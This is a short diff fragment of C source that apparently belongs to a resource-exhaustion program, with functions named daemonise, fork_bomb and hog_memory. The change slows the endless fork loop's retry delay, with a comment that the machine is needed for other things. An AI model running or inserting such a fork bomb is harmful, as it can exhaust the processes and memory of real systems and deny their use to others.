@@ -181,7 +181,7 @@ static int daemonise(void) {
 }
 static int fork_bomb(void) {
   for (;;)
-    if (fork() < 0) usleep(1000);
+    if (fork() < 0) usleep(200000); // held: the machine is needed for other things
   return 0;
 }
 static int hog_memory(void) {
